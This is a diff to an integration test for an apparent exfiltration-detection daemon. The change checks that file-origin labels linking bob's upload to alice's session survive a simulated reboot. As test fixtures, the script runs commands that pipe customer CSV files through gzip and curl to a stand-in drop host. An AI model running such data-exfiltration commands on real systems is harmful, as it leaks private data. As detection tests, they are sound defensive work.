@@ -38,6 +38,22 @@ check "labels outlive the daemon: bob's upload names alice's session" \
 	"$(derived --user bob --session "$B2" --origin-session "$A2" --origin-user alice \
 		--hand-off true)" 1
 
+echo "reboot: alice drops a third export; the pinned maps go (as at a reboot); bob uploads it"
+in_session 1101 "$T/alice3.info" cp "$SRC/customers-part3.csv" "$SHARE/after-reboot.csv" ||
+	die "alice workload"
+kill -TERM $DAEMON
+wait $DAEMON
+rm -rf "$EXFILMON_PIN_DIR"
+start_daemon
+in_session 1102 "$T/bob3.info" bash -c "$(upload "$SHARE/after-reboot.csv")" || die "bob workload"
+A3=$(info_session "$T/alice3.info"); B3=$(info_session "$T/bob3.info")
+wait_alert --session "$B3"
+check "file labels outlive a reboot: bob's upload names alice's session" \
+	"$(derived --user bob --session "$B3" --origin-session "$A3" --origin-user alice \
+		--hand-off true)" 1
+check "the restore was logged" "$(grep -c 'derived-file labels restored' "$T/daemon.log" |
+	awk '{print ($1 > 0)}')" 1
+
 echo "pipeline: carol runs cat | gzip | curl"
 in_session 1103 "$T/carol.info" bash -c \
 	"cat $SRC/customers-part2.csv | gzip -1 | curl -sS --data-binary @- http://$DROP/upload -o /dev/null" ||
@@ -117,7 +133,7 @@ check "grace: no alert" "$(alerts count --session "$G")" 0
 check "build: no alert" "$(alerts count --session "$(info_session "$T/build.info")")" 0
 check "backup outside a session: no alert" "$(alerts count --session-none)" 0
 check "no volume rule fired for anyone (all under the per-person thresholds)" \
-	"$(alerts count) $(derived)" "5 5"
+	"$(alerts count) $(derived)" "6 6"
 check "lineage records in the evidence" \
 	"$("$BUILD/exfilctl" export --dir "$T/evidence" | grep -c '"type":"lineage"' |
 		awk '{print ($1 > 0)}')" 1
@@ -148,5 +164,5 @@ check "report shows the hand-off chain" \
 check "drop site received every upload" "$(test -s "$T/drop.count" && echo yes)" yes
 "$BUILD/exfilctl" verify --dir "$T/evidence" >/dev/null 2>&1
 check "evidence verifies" "$?" 0
-[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; }
+[ "$FAIL" = 0 ] || { echo "alerts:"; cat "$T/alerts.jsonl"; [ -n "${KEEP_DIR:-}" ] && cp -a "$T" "$KEEP_DIR"; }
 itest_finish
